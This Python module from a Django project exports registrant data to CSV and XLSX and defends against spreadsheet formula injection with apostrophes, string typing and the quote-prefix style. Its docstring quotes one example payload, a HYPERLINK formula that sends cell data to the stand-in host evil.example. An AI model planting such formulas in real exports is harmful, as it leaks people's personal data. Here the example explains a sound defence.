"""Exports that staff open in Excel or LibreOffice: whatever a visitor typed arrives as text, never as a formula.

A cell starting with = + - @, a tab or a carriage return is run as a formula by spreadsheets (OWASP "CSV
injection"): a registrant named =HYPERLINK("http://evil.example/?d="&E4,"…") would send other registrants' data
away when a coordinator opens the file.

A CSV has no types, so there such text gets a leading apostrophe. An XLSX cell has one: text is written as a string
cell (never parsed as a formula), and text that starts like a formula also gets the "quote prefix" style, so it stays
text even when someone edits the cell in Excel or LibreOffice; nobody sees an apostrophe (a phone `+7 (912) …` reads
as typed). Numbers stay numbers, dates and datetimes become real dates in the site's time zone (Excel knows no time
zones: the local wall-clock time is written, naive) with a Russian-style number format.
"""

import csv
import datetime
import decimal
import io

from django.utils import timezone

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
DATE_TEXT = "%d.%m.%Y"
DATETIME_TEXT = "%d.%m.%Y %H:%M"
# Excel number formats; "DD.MM.YYYY" is shown as such whatever the reader's locale.
DATE_FORMAT = "DD.MM.YYYY"
DATETIME_FORMAT = "DD.MM.YYYY HH:MM"
DECIMAL_FORMAT = "0.0"


def local_naive(moment):
    """An aware datetime as the site's wall-clock time without a zone (what a spreadsheet cell can hold)."""
    if timezone.is_aware(moment):
        moment = timezone.localtime(moment)
    return moment.replace(tzinfo=None)


def neutral_cell(value):
    """The value as it may go into a spreadsheet cell: text that would start a formula gets an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def plain_value(value):
    """Dates and datetimes as the text a CSV reader expects (local time, dd.mm.yyyy); anything else unchanged."""
    if isinstance(value, datetime.datetime):
        return local_naive(value).strftime(DATETIME_TEXT)
    if isinstance(value, datetime.date):
        return value.strftime(DATE_TEXT)
    return value


def neutral_row(values):
    return [neutral_cell(plain_value(value)) for value in values]


def csv_text(rows):
    """Semicolon-separated with a BOM (what a Russian-locale spreadsheet opens correctly), every cell neutral."""
    buffer = io.StringIO()
    buffer.write("\ufeff")
    writer = csv.writer(buffer, delimiter=";")
    writer.writerows(neutral_row(row) for row in rows)
    return buffer.getvalue()


def typed_cell(cell, value):
    """Puts `value` into an openpyxl cell with its type: text inert, numbers and dates as such."""
    if isinstance(value, str):
        cell.value = value
        cell.data_type = "s"  # openpyxl would otherwise write "=..." as a formula
        if value.startswith(FORMULA_STARTS):
            cell.quotePrefix = True
    elif isinstance(value, datetime.datetime):
        cell.value = local_naive(value)
        cell.number_format = DATETIME_FORMAT
    elif isinstance(value, datetime.date):
        cell.value = value
        cell.number_format = DATE_FORMAT
    elif isinstance(value, (float, decimal.Decimal)):
        cell.value = value
        cell.number_format = DECIMAL_FORMAT
    else:
        cell.value = value


def append_text_row(sheet, values):
    """Appends a row to an openpyxl sheet, each value typed (see typed_cell); lazy strings become text."""
    values = [
        value
        if value is None or isinstance(value, (str, int, float, decimal.Decimal, datetime.date))
        else str(value)
        for value in values
    ]
    sheet.append([local_naive(v) if isinstance(v, datetime.datetime) else v for v in values])
    if values:
        for cell, value in zip(sheet[sheet.max_row], values, strict=False):
            typed_cell(cell, value)
